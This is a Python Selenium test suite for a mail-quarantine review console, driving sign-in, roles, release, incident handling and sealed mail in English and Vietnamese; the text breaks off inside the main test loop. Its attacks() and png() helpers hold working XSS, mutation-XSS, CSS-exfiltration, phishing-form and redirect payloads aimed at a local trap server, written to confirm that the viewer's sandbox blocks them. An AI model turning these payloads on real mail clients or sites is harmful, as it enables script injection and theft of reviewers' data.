#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""The console in a real browser, driven as a person would: every page, every role, both languages,
and mails that attack whoever looks at them.

  browser.py BUILD [--only WORD]

One line a scenario; exit 1 when one failed. Screenshots: BUILD/console-screens."""
import argparse
import inspect
import io
import json
import pathlib
import struct
import subprocess
import sys
import tempfile
import threading
import time
import traceback
import zlib
import http.server

from selenium.common.exceptions import NoSuchElementException, StaleElementReferenceException
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.support.ui import Select, WebDriverWait

import house as house_module
from house import House, letter

WAIT = 30


class Person:
    """Somebody in front of the browser."""

    def __init__(self, house, driver, screens):
        self.house, self.driver, self.screens = house, driver, screens

    def find(self, css):
        return WebDriverWait(self.driver, WAIT, ignored_exceptions=[
                NoSuchElementException, StaleElementReferenceException]).until(
            lambda driver: next((one for one in driver.find_elements(By.CSS_SELECTOR, css)
                                 if one.is_displayed()), None), f"{css} is not there")

    def all(self, css):
        return self.driver.find_elements(By.CSS_SELECTOR, css)

    def wait(self, true, what):
        # A page that is drawn anew while one reads it is read again.
        WebDriverWait(self.driver, WAIT, ignored_exceptions=[StaleElementReferenceException]).until(
            lambda _: true(), what)

    def see(self, words, css="main"):
        self.wait(lambda: words in self.find(css).text, f"'{words}' is not on the page")

    def click(self, css):
        self.find(css).click()

    def type(self, css, words):
        field = self.find(css)
        field.clear()
        field.send_keys(words)

    def shoot(self, name):
        self.driver.save_screenshot(str(self.screens / f"{name}.png"))

    def go(self, path):
        self.driver.get(f"{self.house.url}/#/{path}")

    def sign_in(self, name, language=None):
        self.driver.delete_all_cookies()
        self.driver.get("about:blank")
        self.driver.get(self.house.url + "/")
        self.type("input[name=name]", name)
        self.type("input[name=password]", self.house.passwords[name])
        self.click("button.primary")
        self.find("#sign-out")
        if language is not None:
            self.set_language(language)

    def set_language(self, language):
        self.go("settings")
        Select(self.find("select[name=language]")).select_by_value(language)
        self.click("#settings button.primary")
        self.wait(lambda: self.driver.execute_script("return document.documentElement.lang") ==
                  language, "the language did not change")

    def reason(self, words="a citizen asked for it"):
        self.type("dialog input[name=reason]", words)
        self.click("#dialog-go")

    def dismiss(self):
        """Takes the notes in the corner away, which may lie on what is clicked next."""
        self.find("#notes .alert")
        while self.all("#notes .alert"):
            try:
                self.all("#notes .alert")[0].click()
            except (IndexError, StaleElementReferenceException):
                pass  # gone by itself

    def errors(self):
        return [one["message"] for one in self.driver.get_log("browser")
                if one["level"] == "SEVERE" and " 401 " not in one["message"]]


def entry(house, subject):
    return next(row for row in house.held() if row["subject"] == subject)


def test_signing_in_wrongly_then_rightly_in_both_languages(person):
    person.driver.get(person.house.url + "/")
    person.shoot("sign-in-vi")
    assert "Đăng nhập" in person.find("form").text
    person.click("button[lang=en]")
    person.wait(lambda: "Sign in" in person.find("form").text, "English")
    person.type("input[name=name]", "lan")
    person.type("input[name=password]", "not the password")
    person.click("button.primary")
    person.see("do not fit", "form")
    person.shoot("sign-in-wrong-en")
    person.type("input[name=password]", person.house.passwords["lan"])
    person.find("input[name=password]").send_keys(Keys.ENTER)
    person.find("#sign-out")


def test_the_list_is_filtered_sorted_and_paged(person):
    person.sign_in("lan", "en")
    person.go("held")
    person.see("Offer 01")
    person.shoot("list-en")
    total = len(person.house.held(state="held"))
    person.see(f"{total} messages", ".title")
    person.type("input[name=text]", "bán mực in số 7")
    person.find("input[name=text]").send_keys(Keys.ENTER)
    person.wait(lambda: "1 messages" in person.find(".title").text, "one message")
    assert "07" in person.find("tbody").text
    person.go("held?category=virus")
    person.see("Nothing here")
    person.shoot("list-empty-en")
    person.go("held?limit=5")
    person.find("tbody tr")
    seen = []
    while True:
        rows = [one.get_attribute("data-id") for one in person.all("tbody tr")]
        seen += rows
        if not person.find("#page-after").is_enabled():
            break
        person.click("#page-after")
        person.wait(lambda: person.all("tbody tr") and
                    person.all("tbody tr")[0].get_attribute("data-id") not in seen, "a new page")
    assert len(seen) == len(set(seen)) == total, (len(seen), total)
    person.go("held?sort=sender&order=asc")
    person.find("tbody tr")
    assert person.find("th[aria-sort=ascending]").text.startswith("Sender")


def test_a_letter_is_read_with_its_hits_marked_and_released_to_whom_was_chosen(person):
    person.sign_in("lan", "en")
    held = entry(person.house, "To two people")
    person.go(f"held/{held['id']}")
    person.see("To two people")
    person.click("#view")
    person.reason("asked by the clerk")
    mark = person.find(".text mark")
    assert mark.text == "bán mực in", mark.text
    assert mark.get_attribute("data-rule") == "CON-001"
    person.shoot("detail-en")
    other = next(one for one in person.all("#recipients input")
                 if one.get_attribute("value") == "boss@office.example")
    other.click()
    person.click("button[data-act=release]")
    person.reason("it is an order of ours")
    person.see("released", "#recipients")
    delivered = person.house.sink.wait("clerk@office.example")
    assert [one.recipients for one in delivered] == [["clerk@office.example"]]
    person.see("asked by the clerk")
    person.see("it is an order of ours")
    row = entry(person.house, "To two people")
    assert row["state"] == "held" and [one["released"] for one in row["recipients"]] == [True, False]
    person.click("button[data-act=release]")
    person.reason("the boss as well")
    person.wait(lambda: entry(person.house, "To two people")["state"] == "released", "released")
    person.shoot("detail-released-en")
    assert len(person.house.released()) == 2


def test_bulk_actions_in_vietnamese(person):
    person.sign_in("lan", "vi")
    person.go("held?text=bulk")
    person.find("tbody tr")
    for box in person.all("tbody input[type=checkbox]"):
        box.click()
    person.see("Đã chọn 3", ".bulk")
    person.shoot("list-bulk-vi")
    person.click(".bulk button[data-act=wrongly]")
    person.reason("báo giá của công ty quen")
    person.see("Đã đánh dấu giữ nhầm")
    for box in person.all("tbody input[type=checkbox]"):
        box.click()
    person.click(".bulk button[data-act=delete]")
    person.reason("không ai cần")
    person.wait(lambda: len([row for row in person.house.held(state="deleted")
                             if row["subject"].startswith("Bulk")]) == 3, "deleted")


def test_an_encrypted_attachment_opens_with_the_password_that_the_reviewer_types(person):
    person.sign_in("lan", "en")
    held = entry(person.house, "Locked paper")
    person.go(f"held/{held['id']}")
    person.click("#open")
    person.type("dialog input[name=password]", "wrong one")
    person.reason()
    person.find(".alert.warn")
    person.click("#open")
    person.type("dialog input[name=password]", "Quang-Tri 2026")
    person.reason()
    person.see("TÀI LIỆU THỬ TỐI MẬT")
    assert any(one.get_attribute("data-rule") == "CON-002" for one in person.all(".text mark"))
    assert not person.all(".alert.warn"), "everything was opened"
    person.shoot("encrypted-en")
    kept = subprocess.run(["grep", "-rl", "Quang-Tri 2026", str(person.house.daemon.folder)],
                          stdout=subprocess.PIPE, check=False).stdout.decode().split()
    assert not kept, kept


def test_an_exception_is_made_from_a_held_letter_and_taken_away_by_the_rule_approver(person):
    person.sign_in("lan", "en")
    held = entry(person.house, "Let me pass")
    person.go(f"held/{held['id']}")
    person.click("#exception")
    person.type("dialog input[name=days]", "7")
    person.reason("a shop that we know")
    person.see("The exception was added", "#notes")
    person.shoot("exception-added-en")
    person.house.send(letter("Let me pass again", "bán mực in\n"), sender="known@shop.example")
    assert not [row for row in person.house.held() if row["subject"] == "Let me pass again"]
    person.sign_in("ruler", "vi")
    person.go("rules")
    person.see("known@shop.example", "#exceptions")
    person.shoot("exceptions-vi")
    person.click("#exceptions button")
    person.reason("thôi")
    person.see("Không có ngoại lệ nào.")


def test_mail_that_cannot_wait_goes_on_one_officers_word_and_another_countersigns(person):
    house = person.house
    person.sign_in("lan", "en")
    held = entry(house, "Locked paper for the chair")
    person.go(f"held/{held['id']}")
    person.find("button[data-act=request]")
    person.click("button[data-act=release]")
    person.reason("without anybody else")
    person.see("second person", "#notes")
    time.sleep(0.5)  # the page is drawn anew
    person.shoot("urgent-offered-en")
    person.click("button[data-act=urgent]")
    person.reason("the session is at nine")
    person.see("to be countersigned by", "#requests")
    assert [one.recipients for one in house.sink.wait("chair@office.example")] == \
        [["chair@office.example"]]
    assert not person.all("[data-act=countersign]"), "nobody countersigns their own"
    person.go("held")
    person.see("Locked paper for the chair", "#unsigned")
    assert not person.all("[data-act=countersign]")
    # Neither a marking, whosever it is, nor mail of other people.
    secret = next(row for row in house.held() if row["from"] == "secret@example.net")
    assert secret["category"] == "marking", secret
    for one in (secret["id"], entry(house, "Locked paper")["id"]):
        person.go(f"held/{one}")
        person.find("button[data-act=request]")
        assert not person.all("button[data-act=urgent]"), one
        answer = person.driver.execute_async_script(
            "const [id, done] = arguments; import('/base.js').then(async ({ api }) => {"
            "try { await api('POST', `held/${id}/urgent`, { reason: 'the chair wants it' });"
            "done('sent'); } catch (error) { done(error.code); } });", one)
        assert answer == "not-urgent", answer
    person.sign_in("boss", "vi")
    person.go("held")
    person.see("Thư cho đi khẩn chờ ký xác nhận: 1", "#unsigned")
    person.shoot("unsigned-vi")
    person.go(f"held/{held['id']}")
    person.see("chờ ký xác nhận đến", "#requests")
    assert not person.all("button[data-act=urgent]")
    person.go("held")
    person.click("#unsigned [data-act=countersign]")
    person.reason("đã xem")
    person.wait(lambda: not person.all("#unsigned"), "nothing waits any more")
    person.go(f"held/{held['id']}")
    person.see("boss: đã xem", "#requests")
    person.see("khẩn", ".time")
    person.see("ký xác nhận", ".time")
    person.shoot("countersigned-vi")


def test_blocks_outages_and_outbreaks_are_seen_and_acted_on(person):
    house = person.house
    bad = letter("From the blocked one", "Xin chào\n", sender="bad@blocked.example")
    person.sign_in("admin", "en")
    person.go("incidents")
    person.see("Nothing is blocked.", "#blocks")
    person.click("#add-block")
    person.type("dialog input[name=value]", "no sender at all")
    person.reason("it spreads")
    person.see("is no sender", "#notes")
    person.dismiss()
    person.click("#add-block")
    person.type("dialog input[name=value]", "blocked.example")
    Select(person.find("dialog select[name=for]")).select_by_value("1d")
    person.reason("it spreads")
    person.see("blocked.example", "#blocks table")
    person.dismiss()
    assert b"550" in house.send(bad, sender="bad@blocked.example")
    person.click("#blocks [data-act=unblock]")
    person.reason("it was our own")
    person.see("Nothing is blocked.", "#blocks")
    person.dismiss()
    assert house.send(bad, sender="bad@blocked.example")[:1] == b"a"

    person.see("No outage is on record.", "#outages")
    person.click("#start-outage")
    person.type("dialog input[name=cause]", "the disk is full")
    Select(person.find("dialog select[name=expected]")).select_by_value("2h")
    person.click("#dialog-go")
    person.see("the disk is full", "#outages table")
    person.dismiss()
    person.click("#outages [data-act=notice]")
    person.see("NOTICE: Fault of the electronic mail system", "#outage-notice")
    person.shoot("outage-notice-en")
    person.click("dialog button[type=button]")
    person.click("#outages [data-act=update]")
    person.type("dialog input[name=parts]", "mail from abroad")
    person.click("#dialog-go")
    person.see("mail from abroad", "#outages table")
    person.dismiss()
    person.click("#outages [data-act=end]")
    person.click("#dialog-go")
    person.wait(lambda: not person.all("#outages [data-act=end]"), "it is over")

    person.wait(lambda: (person.go("incidents"), person.driver.refresh(),
                         "plan.txt" in person.find("#outbreaks").text)[-1], "the outbreak")
    person.shoot("incidents-en")
    person.click("#outbreaks a")
    person.see("Recipients touched: 10", "#touched")
    person.see("p7@office.example", "#touched")
    person.shoot("outbreak-en")
    person.click("#add-block")
    person.reason("an outbreak")
    person.see("an outbreak", "#blocks table")
    blocked = json.loads(house.gatepost("block", "list", "--json"))
    assert len(blocked["sha256"]) == 64 and blocked["owner"] == "admin", blocked
    house.gatepost("block", "remove", blocked["id"])

    person.sign_in("lan", "vi")
    person.go("incidents")
    person.find("#add-block")
    assert not person.all("#start-outage")
    person.see("cùng tệp đính kèm", "#outbreaks")
    person.shoot("incidents-vi")
    person.click("#outages [data-act=notice]")
    person.see("Đã khắc phục sự cố", "#outage-notice")
    person.click("dialog button[type=button]")
    person.sign_in("auditor", "vi")
    person.go("incidents")
    person.find("#outages [data-act=notice]")
    assert not person.all("#add-block") and not person.all("[data-act=unblock]")
    person.go("audit?kind=block")
    person.see("remove", "#audit")
    person.see("blocked.example", "#audit")
    person.sign_in("finance", "en")
    assert not person.all("nav.main a[href='#/incidents']"), "a unit's clerk sees a part"


def test_sealed_mail_opens_with_the_reviewers_own_key_and_is_released(person):
    """From here on the house seals what it holds."""
    house = person.house
    key = house.daemon.folder / "lan.key"
    word = house.daemon.folder / "word"
    word.write_text("a passphrase of lan's\n")
    house.gatepost("keys", "init", "lan", "--out", str(key), "--passphrase-file", str(word))
    house.send(letter("Sealed paper", "bán mực in, niêm phong\n"), sender="sealed@example.net")
    held = next(row for row in house.held() if row["from"] == "sealed@example.net")
    assert held["sealed"] and not held["subject"], held
    person.sign_in("lan", "en")
    person.go(f"held/{held['id']}")
    person.see("only a reviewer's private key opens it")
    person.shoot("sealed-en")
    person.driver.find_element(By.CSS_SELECTOR, "#unlock input[type=file]").send_keys(str(key))
    person.type("#unlock input[name=passphrase]", "not this one")
    person.click("#unlock button")
    person.find("#notes .bad")
    person.type("#unlock input[name=passphrase]", "a passphrase of lan's")
    person.click("#unlock button")
    person.see("Sealed paper", "h1")
    person.click("#view")
    person.reason()
    person.see("niêm phong", ".text")
    person.click("[data-act=release]")
    person.reason()
    person.wait(lambda: next(row for row in house.held() if row["id"] == held["id"])["state"] ==
                "released", "released")
    assert b"Sealed paper" in house.released()[-1].data
    person.go("settings")
    person.see("The key lan is unlocked.")
    person.click("#lock")
    person.see("No key is unlocked.")
    person.go(f"held/{held['id']}")
    person.see(held["id"], "h1")


def test_pictures_are_drawn_anew_and_bring_no_byte_of_the_senders_files(person):
    person.sign_in("lan", "en")
    held = entry(person.house, "Pictures and a scan")
    person.go(f"held/{held['id']}")
    person.click("#view")
    person.reason("without pictures")
    person.find(".tabs")
    assert not person.all("#tab-pictures"), "only where they are asked for"
    person.click("#view")
    person.find("dialog input[name=pictures]").click()
    person.reason("is there a stamp?")
    person.click("#tab-pictures")
    person.wait(lambda: len(person.all("figure.picture img")) == 3, "three pictures")
    person.wait(lambda: all(person.driver.execute_script(
        "return arguments[0].complete && arguments[0].naturalWidth > 0", one)
        for one in person.all("figure.picture img")), "drawn")
    captions = [one.text for one in person.all("figure.picture figcaption")]
    assert sorted(captions) == ["photo.png = the-lure.png", "scan.pdf · page 1/2",
                                "scan.pdf · page 2/2"], captions
    left = person.find("[role=tabpanel] .alert.warn").text
    assert "bomb.png" in left and "drawing.svg" in left and "dot.png" in left, left
    # The red square of the photo, seen through the browser's own eyes.
    photo = next(one for one in person.all("figure.picture img")
                 if one.get_attribute("alt").startswith("photo.png"))
    pixel = person.driver.execute_script(
        "const c = document.createElement('canvas'); c.width = 64; c.height = 48;"
        "const x = c.getContext('2d'); x.drawImage(arguments[0], 0, 0);"
        "return [...x.getImageData(20, 20, 1, 1).data]", photo)
    assert pixel == [200, 20, 30, 255], pixel
    png = person.driver.execute_async_script(
        "const done = arguments[1]; fetch(arguments[0]).then(async (r) => done([r.status,"
        "r.headers.get('content-type'), r.headers.get('x-content-type-options'), [...new"
        " Uint8Array(await r.arrayBuffer())]]))", photo.get_attribute("src"))
    assert png[:3] == [200, "image/png", "nosniff"], png[:3]
    assert b"pwned" not in bytes(png[3]) and b"tEXt" not in bytes(png[3]), "metadata or a tail"
    source = photo.get_attribute("src")
    person.shoot("pictures-en")
    person.set_language("vi")
    person.go(f"held/{held['id']}")
    person.click("#view")
    person.find("dialog input[name=pictures]").click()
    person.reason("xem dấu mật")
    person.click("#tab-pictures")
    person.wait(lambda: len(person.all("figure.picture img")) == 3, "three pictures")
    person.see("trang 1/2")
    person.shoot("pictures-vi")
    # Another session does not get it.
    person.sign_in("finance", "en")
    status = person.driver.execute_async_script(
        "const done = arguments[1]; fetch(arguments[0]).then((r) => done(r.status))", source)
    assert status == 404, status
    seen = [json.loads(line) for line in
            person.house.gatepost("audit", held["id"], "--json").splitlines() if line]
    assert "is there a stamp?" in json.dumps(seen) and "drawn" in json.dumps(seen), seen


def test_mails_that_attack_the_reviewer_do_nothing(person):
    """Whatever a letter tries, it reaches no address, runs nothing and shows nothing of its own."""
    person.sign_in("lan", "en")
    for subject in sorted(ATTACKS):
        held = entry(person.house, subject)
        person.go(f"held/{held['id']}")
        person.click("#view")
        person.reason()
        person.find(".tabs")
        if person.all("#tab-page"):
            person.click("#tab-page")
            frame = person.find("iframe.page")
            assert frame.get_attribute("sandbox") == "", "no freedom at all"
            person.driver.switch_to.frame(frame)
            person.wait(lambda: "harmless words" in
                        person.driver.find_element(By.TAG_NAME, "body").text, subject)
            for tag in ("script", "style[id]", "svg", "form", "meta[http-equiv]", "link", "iframe",
                        "object", "embed", "math", "base", "img", "a[href]", "input", "[onclick]",
                        "[onerror]", "[style]"):
                assert not person.driver.find_elements(By.CSS_SELECTOR, tag), (subject, tag)
            person.driver.switch_to.default_content()
            person.shoot(f"attack-{subject.split()[1]}")
        assert person.driver.title.endswith("Gatepost"), (subject, person.driver.title)
        assert person.driver.current_url.startswith(person.house.url), subject
        assert person.driver.execute_script("return window.pwned === undefined"), subject
    time.sleep(1)
    assert not CAUGHT, f"the browser asked for {CAUGHT}"
    away = []
    for one in person.driver.get_log("performance"):
        message = json.loads(one["message"])["message"]
        if message["method"] == "Network.requestWillBeSent":
            url = message["params"]["request"]["url"]
            # chrome: is the browser's own first page.
            if not url.startswith((person.house.url, "about:", "data:", "chrome:")):
                away.append(url)
    assert not away, away


def test_a_copy_is_an_encrypted_zip(person):
    person.sign_in("lan", "en")
    held = entry(person.house, "Offer 01 bán mực in số 1")
    person.go(f"held/{held['id']}")
    person.click("#download")
    person.reason("for the police")
    password = person.find("#zip-password").text
    link = person.find("#fetch-zip").get_attribute("href")
    cookie = person.driver.get_cookie("gatepost")["value"]
    with tempfile.TemporaryDirectory() as folder:
        path = pathlib.Path(folder) / "copy.zip"
        subprocess.run(["python3", "-c", "import sys,urllib.request as u;"
                        "u.install_opener(u.build_opener(u.ProxyHandler({})));"
                        "r=u.urlopen(u.Request(sys.argv[1],headers={'Cookie':'gatepost='+sys.argv[2]}));"
                        "assert r.headers['Content-Disposition'].startswith('attachment');"
                        "open(sys.argv[3],'wb').write(r.read())", link, cookie, str(path)],
                       check=True)
        wrong = subprocess.run(["7z", "x", "-pwrong", f"-o{folder}/no", str(path)],
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)
        assert wrong.returncode != 0
        subprocess.run(["7z", "x", f"-p{password}", f"-o{folder}/out", str(path)], check=True,
                       stdout=subprocess.DEVNULL)
        raw = (pathlib.Path(folder) / "out" / f"{held['id']}.eml").read_bytes()
    assert b"Offer_01" in raw or b"Offer 01" in raw
    person.click("dialog button[type=button]")


def test_each_role_sees_its_own_pages_and_no_other(person):
    pages = {"lan": ["held", "track", "incidents", "statistics"], "meta": ["held"],
             "boss": ["held"],
             "auditor": ["held", "track", "incidents", "statistics", "rules", "audit", "access"],
             "admin": ["incidents", "statistics", "rules", "access"],
             "ruler": ["incidents", "statistics", "rules"],
             "finance": ["held", "track"]}
    for name, mine in pages.items():
        person.sign_in(name, "en")
        person.wait(lambda pages=mine: [one.get_attribute("href").split("#/")[1]
                                        for one in person.all("nav.main a")] == pages,
                    f"{name} does not have the pages {mine}")
    held = entry(person.house, "Offer 01 bán mực in số 1")
    person.sign_in("meta", "en")
    person.go(f"held/{held['id']}")
    person.see("not the content")
    assert "Offer 01" not in person.find("main").text
    assert not person.all("#view") and not person.all("button[data-act]")
    person.shoot("detail-metadata-only-en")


def test_a_unit_sees_its_own_mail(person):
    person.sign_in("finance", "en")
    person.go("held?state=all")
    person.find("tbody tr")
    assert "land.office.example" not in person.find("tbody").text
    held = entry(person.house, "For another unit")
    person.go(f"held/{held['id']}")
    person.see("not yours to see")


def test_tracking_statistics_rules_audit_access(person):
    person.sign_in("auditor", "en")
    person.go("track?q=friend@example.net")
    person.find("#decisions tbody tr")
    person.shoot("track-en")
    person.go("track?q=nobody@nowhere.example")
    person.see("Nothing found")
    person.go("statistics?days=1")
    person.find("svg.chart")
    person.see("CON-001")
    person.shoot("statistics-en")
    person.go("rules")
    person.see("Offers of ink")
    person.shoot("rules-en")
    person.go("audit")
    person.see("read the content")
    person.see("asked by the clerk")
    person.shoot("audit-en")
    person.go("access")
    person.see("finance")
    person.shoot("access-en")
    for page in ("track?q=friend@example.net", "statistics?days=1", "rules", "audit", "access"):
        person.set_language("vi")
        person.go(page)
        person.find(".card")
        time.sleep(0.5)
        person.shoot(f"{page.split('?')[0]}-vi")


def test_the_keyboard_is_enough(person):
    person.sign_in("lan", "en")
    person.go("held")
    person.find("tbody tr")
    for _ in range(60):
        person.driver.switch_to.active_element.send_keys(Keys.TAB)
        active = person.driver.switch_to.active_element
        if active.get_attribute("class") == "subject":
            break
    else:
        raise AssertionError("no letter within 60 tabs")
    active.send_keys(Keys.ENTER)
    person.find("#view").send_keys(Keys.ENTER)
    person.driver.switch_to.active_element.send_keys("with the keyboard" + Keys.ENTER)
    person.find(".tabs")


def test_dark_and_small(person):
    person.sign_in("lan", "vi")
    person.go("settings")
    Select(person.find("select[name=theme]")).select_by_value("dark")
    person.click("#settings button.primary")
    person.wait(lambda: person.driver.execute_script(
        "return document.documentElement.dataset.theme") == "dark", "dark")
    person.shoot("settings-dark-vi")
    person.go("held")
    person.find("tbody tr")
    person.shoot("list-dark-vi")
    person.driver.set_window_size(500, 900)
    try:
        person.shoot("list-phone-vi")
        wide = person.driver.execute_script(
            "return document.documentElement.scrollWidth - document.documentElement.clientWidth")
        assert wide <= 0, f"the page is {wide} px wider than the phone"
        person.go(f"held/{entry(person.house, 'Offer 01 bán mực in số 1')['id']}")
        person.find("#view")
        person.shoot("detail-phone-vi")
    finally:
        person.driver.set_window_size(1280, 900)
        person.go("settings")
        Select(person.find("select[name=theme]")).select_by_value("auto")
        person.click("#settings button.primary")


def test_who_has_left_is_out_at_once(person):
    """With the key, in the house that seals since the scenario above."""
    person.sign_in("leaver", "en")
    person.go("held")
    person.find("tbody tr")
    folder = person.house.daemon.folder
    person.house.gatepost("keys", "add", "leaver", "--out", str(folder / "leaver.key"),
                          "--passphrase-file", str(folder / "word"))
    person.house.gatepost("access", "remove", "leaver")
    keys = person.house.gatepost("keys", "list", "--json")
    assert "lan" in keys and "leaver" not in keys, keys
    person.go("held?state=all")
    person.find("input[name=password]")
    person.shoot("session-over-en")
    person.house.passwords.pop("leaver")
    assert "leaver" not in person.house.gatepost("access", "review")


def test_no_page_broke_its_own_policy(person):
    bad = [one for one in person.errors() if "Content Security Policy" in one or "TypeError" in one]
    assert not bad, bad


CAUGHT = []


class Trap(http.server.BaseHTTPRequestHandler):
    """Where the attacks would like to go."""

    def do_GET(self):
        CAUGHT.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *_):
        pass


def png(width, height, tail=b""):
    """A red square on white, with words in its metadata and behind its end."""
    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data +
                struct.pack(">I", zlib.crc32(kind + data)))
    rows = b"".join(b"\0" + b"".join(b"\xc8\x14\x1e" if 10 < x < 40 and 10 < y < 40
                                    else b"\xff\xff\xff" for x in range(min(width, 64)))
                    for y in range(min(height, 48)))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) +
            chunk(b"tEXt", b"Comment\0<script>top.pwned=1</script>") +
            chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"") + tail)


def pdf(*words):
    """A page for each word."""
    out = "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    kids = " ".join(f"{3 + 2 * i} 0 R" for i in range(len(words)))
    out += f"2 0 obj<</Type/Pages/Kids[{kids}]/Count {len(words)}>>endobj\n"
    for i, word in enumerate(words):
        page = f"BT /F 40 Tf 40 80 Td ({word}) Tj ET\n"
        out += (f"{3 + 2 * i} 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 500 200]/Contents "
                f"{4 + 2 * i} 0 R/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont"
                f"/Helvetica>>>>>>>>endobj\n{4 + 2 * i} 0 obj<</Length {len(page)}>>stream\n"
                f"{page}endstream endobj\n")
    return (out + "trailer<</Root 1 0 R>>\n%%EOF\n").encode()


def attacks(trap):
    bait = "<p>harmless words</p>"
    return {
        "Attack script": f"<script>window.top.pwned=1;fetch('{trap}/script')</script>{bait}"
                         f"<img src=x onerror=\"top.pwned=1;new Image().src='{trap}/onerror'\">"
                         f"<body onload=\"top.pwned=1\"><a href=\"javascript:top.pwned=1\">x</a>",
        "Attack svg": f"<svg onload=\"top.pwned=1\"><script>top.pwned=1</script>"
                      f"<image href=\"{trap}/svg.png\"/><foreignObject><iframe src=\"{trap}/fo\">"
                      f"</iframe></foreignObject></svg>{bait}",
        "Attack css": f"<style>@import url({trap}/import);body{{background:url({trap}/bg)}}"
                      f"input[value^=a]{{background:url({trap}/leak)}}"
                      f"@font-face{{font-family:x;src:url({trap}/font)}}</style>"
                      f"<link rel=stylesheet href=\"{trap}/sheet\">"
                      f"<div style=\"background:url({trap}/inline);position:fixed;inset:0\">{bait}</div>",
        "Attack form": f"<form action=\"{trap}/form\" method=post><input name=password autofocus>"
                       f"<button formaction=\"{trap}/button\">Sign in again</button></form>{bait}",
        "Attack refresh": f"<meta http-equiv=refresh content=\"0;url={trap}/refresh\">"
                          f"<base href=\"{trap}/\">{bait}<iframe src=\"{trap}/frame\"></iframe>"
                          f"<object data=\"{trap}/object\"></object><embed src=\"{trap}/embed\">"
                          f"<video src=\"{trap}/video\" autoplay></video>",
        "Attack mxss": "<math><mtext><table><mglyph><style><!--</style>"
                       f"<img title=\"--&gt;&lt;img src=1 onerror=top.pwned=1&gt;\"></math>{bait}"
                       "<noscript><p title=\"</noscript><img src=x onerror=top.pwned=1>\">"
                       "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\""
                       "</style><img onerror=top.pwned=1 src>\"></svg></math>"
                       "<svg></p><style><a id=\"</style><img src=1 onerror=top.pwned=1>\"></svg>"
                       "<listing>&lt;img onerror=top.pwned=1 src=x&gt;</listing>" + bait,
        "Attack links": f"<a href=\"{trap}/click\" ping=\"{trap}/ping\">{bait}</a>"
                        f"<a href=\"data:text/html,<script>top.pwned=1</script>\">data</a>"
                        f"<map><area href=\"{trap}/area\"></map><img src=\"{trap}/pixel.gif\" width=1>"
                        f"<img srcset=\"{trap}/srcset 2x\"><link rel=prefetch href=\"{trap}/prefetch\">"
                        f"<link rel=dns-prefetch href=\"//example.com\">",
    }


ATTACKS = {}


def fill(house, trap):
    ATTACKS.update(attacks(trap))
    for number in range(1, 13):
        house.send(letter(f"Offer {number:02} bán mực in số {number}",
                          f"Kính gửi văn phòng,\n\nChúng tôi bán mực in chính hãng, lô số {number}.\n"
                          f"Xem bảng giá kèm theo.\n"),
                   sender=f"shop{number % 4}@example.net")
    for number in range(3):
        house.send(letter(f"Bulk {number}", f"bán mực in {number}\n"))
    house.send(letter("To two people", "Báo giá: bán mực in cho hai người.\n"),
               recipients=("clerk@office.example", "boss@office.example"))
    house.send(letter("For another unit", "bán mực in cho địa chính\n"),
               recipients=("map@land.office.example",), sender="land@example.net")
    house.send(letter("Let me pass", "bán mực in\n"), sender="known@shop.example")
    house.send(letter("A plain letter", "Xin chào\n"))
    with tempfile.TemporaryDirectory() as folder:
        path = pathlib.Path(folder)
        (path / "mat.txt").write_text("Đây là TÀI LIỆU THỬ TỐI MẬT.\n")
        subprocess.run(["zip", "-q", "-j", "-P", "Quang-Tri 2026", str(path / "a.zip"),
                        str(path / "mat.txt")], check=True)
        house.send(letter("Locked paper", "Mật khẩu sẽ báo qua điện thoại.\n",
                          attachments=[("giay.zip", "application/zip",
                                        (path / "a.zip").read_bytes())]))
        house.send(letter("Locked paper for the chair", "Mật khẩu sẽ báo sau.\n",
                          attachments=[("hop.zip", "application/zip",
                                        (path / "a.zip").read_bytes())]),
                   recipients=("chair@office.example",))
    house.send(letter("For the chair", "Đây là TÀI LIỆU THỬ TỐI MẬT.\n"),
               recipients=("chair@office.example",), sender="secret@example.net")
    house.send(letter("The plan", "Xem kế hoạch.\n",
                      attachments=[("plan.txt", "text/plain", b"ke hoach " * 200)]),
               recipients=tuple(f"p{i}@office.example" for i in range(10)),
               sender="spread@example.net")
    house.send(letter("Pictures and a scan", "bán mực in, xem ảnh\n", attachments=[
        ("photo.png", "image/png", png(64, 48, b"<html><script>top.pwned=1</script></html>")),
        ("the-lure.png", "image/png",
         png(64, 48, b"<html><script>top.pwned=1</script></html>")),
        ("dot.png", "image/png", png(4, 4)),
        ("bomb.png", "image/png", png(60_000, 60_000)),
        ("drawing.svg", "image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg'><image href='"
                                         f"{trap}/attached-svg'/></svg>".encode()),
        ("scan.pdf", "application/pdf", pdf("FIRST PAGE", "SECOND PAGE"))]))
    for subject, html in ATTACKS.items():
        house.send(letter(subject, html=html + "<p>bán mực in</p>"))
    house.account("lan", "releaser", "content-viewer")
    house.account("meta", "metadata-viewer")
    house.account("boss", "approver")
    house.account("auditor", "auditor")
    house.account("admin", "administrator")
    house.account("ruler", "rule-approver")
    house.account("leaver", "releaser")
    house.account("finance", "releaser", "content-viewer", extra=("--unit", "finance"))


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("build")
    parser.add_argument("--only", default="")
    arguments = parser.parse_args()
    screens = pathlib.Path(arguments.build) / "console-screens"
    screens.mkdir(exist_ok=True)
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Trap)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    house = House(arguments.build)
    failed = ran = 0
    try:
        fill(house, f"http://127.0.0.1:{server.server_port}")
        house.open_console()
        with house_module.browser(screens) as driver:
            person = Person(house, driver, screens)
            for name, function in list(globals().items()):
                if not name.startswith("test_") or not inspect.isfunction(function):
                    continue
                if arguments.only not in name:
                    continue
                ran += 1
                try:
                    function(person)
                    word = "ok  "
